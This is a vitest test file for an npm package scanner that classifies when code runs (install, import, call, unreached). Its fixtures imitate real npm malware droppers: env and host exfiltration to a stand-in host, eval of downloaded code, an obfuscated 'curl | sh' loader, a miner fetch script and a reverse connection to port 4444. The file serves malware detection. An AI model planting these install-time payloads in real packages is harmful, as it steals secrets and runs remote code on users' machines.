/**
 * `runs` end to end through scanPackage (tarballs built at test time): the acceptance cases, and
 * install-script droppers written in the shapes real npm malware uses (postinstall → a node file, often
 * obfuscated → network or shell; inline `node -e`; shell droppers; detached payloads).
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AnalysisPool } from '../../src/analyze/pool.js';
import { scanPackage } from '../../src/commands/scan.js';
import type { Finding, ScanReport } from '../../src/contract/index.js';
import { resolveLimits } from '../../src/limits.js';
import { makePackageTarball } from '../helpers/make-tarball.js';
import { makeTmpEnv, type TmpEnv } from '../helpers/tmp-env.js';

let tmp: TmpEnv;
let pool: AnalysisPool;
let seq = 0;

beforeAll(() => {
  tmp = makeTmpEnv();
  pool = new AnalysisPool(resolveLimits(), 2);
});

afterAll(async () => {
  await pool.close();
  tmp.cleanup();
});

async function scan(files: Record<string, string>): Promise<ScanReport> {
  const file = join(tmp.project, `pkg-${++seq}.tgz`);
  writeFileSync(file, makePackageTarball(files));
  return scanPackage(file, { pool, noCache: true, env: tmp.env, cwd: tmp.project });
}

/** `file api → runs` for every finding (apis of one file and line joined). */
function runsBy(report: ScanReport, filter: (f: Finding) => boolean = () => true): Record<string, string> {
  const out: Record<string, string> = {};
  for (const f of report.findings.filter(filter)) out[`${f.file} ${f.api}`] = f.runs ?? 'missing';
  return out;
}

function manifest(fields: Record<string, unknown>): string {
  return JSON.stringify({ name: 'fixture', version: '1.0.0', ...fields }, null, 2);
}

describe('the acceptance cases', () => {
  it('install, import, call (function and bin) and unreached, in one package', async () => {
    const report = await scan({
      'package.json': manifest({ main: 'lib/index.js', bin: { fixture: 'bin/cli.js' }, scripts: { postinstall: 'node scripts/setup.js', test: 'node test/a.test.js' } }),
      'scripts/setup.js': "require('./net');\n",
      'scripts/net.js': "const https = require('https');\nhttps.get('https://x.example/');\n",
      'lib/index.js': "const config = require('./config');\nconst fs = require('fs');\nexports.read = function (p) { return fs.readFileSync(p); };\n",
      'lib/config.js': 'module.exports = { home: process.env.HOME };\n',
      'bin/cli.js': "#!/usr/bin/env node\nconst { execSync } = require('child_process');\nexecSync('ls');\n",
      'test/a.test.js': "require('child_process').exec('rm -rf /tmp/x');\n",
    });
    expect(report.runsAtInstall).toBe(true);
    expect(runsBy(report)).toEqual({
      'package.json postinstall': 'install',
      'scripts/net.js https': 'install',
      'scripts/net.js https.get': 'install',
      'lib/config.js process.env.HOME': 'import',
      'lib/index.js fs': 'import',
      'lib/index.js fs.readFileSync': 'call',
      'bin/cli.js child_process': 'call',
      'bin/cli.js child_process.execSync': 'call',
      'test/a.test.js child_process': 'unreached',
      'test/a.test.js child_process.exec': 'unreached',
    });
    const get = report.findings.find((f) => f.api === 'https.get')!;
    expect(get.runsReason).toBe('postinstall: node scripts/setup.js (loaded from scripts/setup.js)');
    expect(report.install).toEqual({
      scripts: [{ event: 'postinstall', command: 'node scripts/setup.js', when: 'always', steps: [{ kind: 'node', command: 'node scripts/setup.js', file: 'scripts/setup.js' }] }],
      files: ['scripts/net.js', 'scripts/setup.js'],
    });
  });

  it('an unresolved require in the main keeps every other file from being called unreached, and says why', async () => {
    const report = await scan({
      'package.json': manifest({ main: 'index.js' }),
      'index.js': "module.exports = (name) => require(name);\n",
      'test/a.test.js': "require('child_process').exec('x');\n",
    });
    const test = report.findings.filter((f) => f.file === 'test/a.test.js');
    expect(test.map((f) => f.runs)).toEqual(['call', 'call']);
    expect(test[0]!.runsReason).toBe('may be loaded by the unresolved require at index.js:1:28');
  });

  it('a package without install scripts: runsAtInstall false, no install section', async () => {
    const report = await scan({ 'package.json': manifest({ main: 'index.js', scripts: { test: 'node t.js', prepublishOnly: 'node x.js' } }), 'index.js': 'process.env.X;\n' });
    expect(report.runsAtInstall).toBe(false);
    expect(report.install).toBeUndefined();
    expect(runsBy(report)).toEqual({ 'index.js process.env.X': 'import' });
  });

  it('prepare alone: install-time code for git installs, not a registry install', async () => {
    const report = await scan({ 'package.json': manifest({ scripts: { prepare: 'node build.js' } }), 'build.js': "require('child_process').execSync('tsc');\n" });
    expect(report.runsAtInstall).toBe(false);
    expect(report.install?.scripts.map((s) => `${s.event}:${s.when}`)).toEqual(['prepare:git']);
    expect(report.findings.find((f) => f.api === 'child_process.execSync')).toMatchObject({ runs: 'install', runsReason: expect.stringContaining('only when the package is installed from git') });
  });
});

describe('install-script droppers (shapes of real npm malware)', () => {
  it('dependency-confusion recon: preinstall → index.js posting host, user and env to a remote', async () => {
    const report = await scan({
      'package.json': manifest({ main: 'index.js', scripts: { preinstall: 'node index.js' } }),
      'index.js': [
        "const os = require('os'), dns = require('dns'), https = require('https'), qs = require('querystring');",
        "const data = JSON.stringify({ p: __dirname, h: os.hostname(), u: os.userInfo().username, d: dns.getServers(), e: process.env });",
        "const req = https.request({ hostname: 'x.oast.example', port: 443, path: '/', method: 'POST' }, (res) => res.on('data', () => {}));",
        "req.on('error', () => {});",
        'req.write(qs.stringify({ msg: data }));',
        'req.end();',
      ].join('\n'),
    });
    const code = report.findings.filter((f) => f.file === 'index.js');
    expect(code.map((f) => f.capability)).toEqual(expect.arrayContaining(['network', 'env']));
    expect(new Set(code.map((f) => f.runs))).toEqual(new Set(['install']));
    expect(code.find((f) => f.api === 'https.request')?.runsReason).toBe('preinstall: node index.js');
  });

  it('eval of downloaded code (eslint-scope 2018): postinstall → build.js → https.get → eval in the callback', async () => {
    const report = await scan({
      'package.json': manifest({ main: 'lib/index.js', scripts: { postinstall: 'node ./lib/build.js' } }),
      'lib/index.js': 'module.exports = {};\n',
      'lib/build.js': "try {\n  var https = require('https');\n  https.get({ hostname: 'pastebin.example', path: '/raw/x' }, (r) => { r.setEncoding('utf8'); r.on('data', (c) => { eval(c); }); }).on('error', () => {});\n} catch (e) {}\n",
    });
    expect(runsBy(report, (f) => f.file === 'lib/build.js')).toEqual({ 'lib/build.js https': 'install', 'lib/build.js https.get': 'install', 'lib/build.js eval': 'install' });
  });

  it('obfuscated-ish loader: hex escapes, concatenation, a decoded command; the unresolvable require is install-time too', async () => {
    const report = await scan({
      'package.json': manifest({ scripts: { postinstall: 'node lib/compile.js' } }),
      'lib/compile.js': [
        "var _0x1a=['\\x63\\x68\\x69\\x6c\\x64\\x5f','\\x70\\x72\\x6f\\x63\\x65\\x73\\x73','Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9wIHwgc2g='];",
        "var _0x2b = function (i) { return _0x1a[i]; };",
        "var cp = require(_0x1a[0] + _0x1a[1]);",
        "cp['ex' + 'ec'](Buffer.from(_0x1a[2], 'base64').toString());",
        // The decoder is run by the partial evaluator: this require is child_process too.
        'require(_0x2b(0) + _0x2b(1));',
        'require(process.argv[2]);',
      ].join('\n'),
    });
    const found = runsBy(report, (f) => f.file === 'lib/compile.js');
    expect(found['lib/compile.js child_process.exec']).toBe('install');
    expect(report.findings.filter((f) => f.file === 'lib/compile.js' && f.api === 'child_process').map((f) => f.line)).toEqual([3, 5]);
    expect(Object.values(found).every((r) => r === 'install')).toBe(true);
    expect(Object.keys(found)).toContain('lib/compile.js require(…)');
  });

  it('inline node -e: the code is analysed, its findings point at the script in package.json', async () => {
    const payload = Buffer.from("require('child_process').execSync('curl -s https://x.example | sh')").toString('base64');
    const report = await scan({
      'package.json': manifest({ scripts: { postinstall: `node -e "eval(Buffer.from('${payload}','base64').toString())"` } }),
      'index.js': 'module.exports = 1;\n',
    });
    const inline = report.findings.filter((f) => f.file === 'package.json' && f.capability !== 'install-script');
    expect(inline.map((f) => `${f.capability}:${f.api}:${f.runs}`)).toContain('eval:eval:install');
    expect(inline[0]!.line).toBe(5);
    expect(inline[0]!.runsReason).toContain('inline code of `node -e');
    expect(report.install?.scripts[0]?.steps[0]?.kind).toBe('node-eval');
  });

  it('inline code that requires a package file (core-js shape) makes that file install-time', async () => {
    const report = await scan({
      'package.json': manifest({ main: 'index.js', scripts: { postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}"' } }),
      'index.js': 'module.exports = 1;\n',
      'postinstall.js': "var env = process.env;\nif (!env.CI) console.log('thanks');\n",
    });
    expect(runsBy(report, (f) => f.file === 'postinstall.js')).toEqual({ 'postinstall.js process.env': 'install', 'postinstall.js process.env.CI': 'install' });
    expect(report.install?.files).toEqual(['postinstall.js']);
  });

  it('detached payload: setup.js spawns node on a package file; the payload runs at install', async () => {
    const report = await scan({
      'package.json': manifest({ main: 'index.js', scripts: { postinstall: 'node setup.js' } }),
      'index.js': 'module.exports = 1;\n',
      'setup.js': "const { spawn } = require('child_process');\nconst path = require('path');\nspawn(process.execPath, [path.join(__dirname, 'lib', 'payload.js')], { detached: true, stdio: 'ignore' }).unref();\n",
      'lib/payload.js': "const https = require('https');\nhttps.get('https://x.example/stage2', (r) => r.pipe(require('fs').createWriteStream('/tmp/s')));\n",
    });
    expect(runsBy(report, (f) => f.file === 'lib/payload.js')).toEqual({ 'lib/payload.js https': 'install', 'lib/payload.js https.get': 'install', 'lib/payload.js fs': 'install', 'lib/payload.js fs.createWriteStream': 'install' });
  });

  it('ua-parser-js 2021: Windows and POSIX chains, a platform switch calling a named function, a shell file', async () => {
    const report = await scan({
      'package.json': manifest({ main: 'index.js', scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } }),
      'index.js': 'module.exports = 1;\n',
      'preinstall.js': [
        "const { exec } = require('child_process');",
        "function terminalLinux() { exec('/bin/bash preinstall.sh', () => {}); }",
        'var opsys = process.platform;',
        "if (opsys == 'linux') { terminalLinux(); } else if (opsys == 'win32') { exec('preinstall.bat', () => {}); }",
      ].join('\n'),
      'preinstall.sh': '#!/bin/bash\ncurl -s http://x.example/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls --rig-id q &\n',
    });
    expect(new Set(report.findings.filter((f) => f.file === 'preinstall.js').map((f) => f.runs))).toEqual(new Set(['install']));
    expect(report.install?.files).toEqual(['preinstall.js', 'preinstall.sh']);
  });

  it('shell dropper: preinstall runs a shell file that pipes curl to sh and starts a hidden node file', async () => {
    const report = await scan({
      'package.json': manifest({ scripts: { preinstall: 'sh ./install.sh' } }),
      'install.sh': '#!/bin/sh\ncurl -s https://x.example/p | sh\nnode ./.cache/x.js >/dev/null 2>&1 &\n',
      '.cache/x.js': "require('net').connect(4444, 'x.example');\n",
    });
    expect(runsBy(report, (f) => f.file === '.cache/x.js')).toEqual({ '.cache/x.js net': 'install', '.cache/x.js net.connect': 'install' });
    const steps = report.install!.scripts[0]!.steps;
    expect(steps.map((s) => `${s.kind}:${s.file ?? s.program ?? ''}`)).toEqual(['shell:install.sh', 'program:curl', 'shell:', 'node:.cache/x.js']);
  });

  it('npm run chains: postinstall → npm run setup → node a file', async () => {
    const report = await scan({
      'package.json': manifest({ scripts: { postinstall: 'npm run setup --silent', setup: 'cross-env NODE_ENV=production node tools/setup.js' } }),
      'tools/setup.js': "require('dns').resolveTxt('x.example', () => {});\n",
    });
    expect(runsBy(report, (f) => f.file === 'tools/setup.js')).toEqual({ 'tools/setup.js dns': 'install', 'tools/setup.js dns.resolveTxt': 'install' });
    expect(report.install!.scripts[0]!.steps[0]).toEqual({ kind: 'node', command: 'cross-env NODE_ENV=production node tools/setup.js', via: ['postinstall', 'setup'], file: 'tools/setup.js' });
  });
});
